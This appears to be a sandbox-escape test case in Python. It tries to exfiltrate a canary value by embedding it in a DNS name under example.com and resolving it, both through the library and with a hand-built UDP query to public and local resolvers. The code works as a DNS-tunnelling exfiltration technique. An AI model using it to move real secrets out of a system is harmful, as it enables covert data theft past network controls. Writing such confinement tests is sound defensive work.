# /// case
# id = "H31c"
# title = "exfiltration by name look-up"
# tries = "asks the resolver for a name that carries a secret, by the library and by hand"
# limits = { wall_s = 25 }
# endings = ["ok"]
# proof = "says ESCAPED when a name resolves or a question leaves"
# watches = []
# unconfined = "not run: would use the network"
# ///
import os
import re
import socket

name = os.environ["CANARY_NONCE"] + ".example.com"
for host in (name, "example.com"):
    try:
        print("ESCAPED", host, "resolves to", socket.gethostbyname(host), flush=True)
    except OSError as refused:
        print("refused", refused, flush=True)
servers = ["8.8.8.8", "127.0.0.53"]
try:
    with open("/etc/resolv.conf") as source:
        servers += re.findall(r"^nameserver\s+(\S+)", source.read(), re.MULTILINE)
except OSError:
    pass
labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
question = b"\x12\x34\x01\x00\x00\x01" + b"\x00" * 6 + labels + b"\x00\x00\x01\x00\x01"
for server in servers:
    try:
        family = socket.AF_INET6 if ":" in server else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as line:
            line.settimeout(1)
            line.sendto(question, (server, 53))
            line.recv(512)
            print("ESCAPED answered by", server, flush=True)
    except OSError as refused:
        print("refused", server, refused, flush=True)
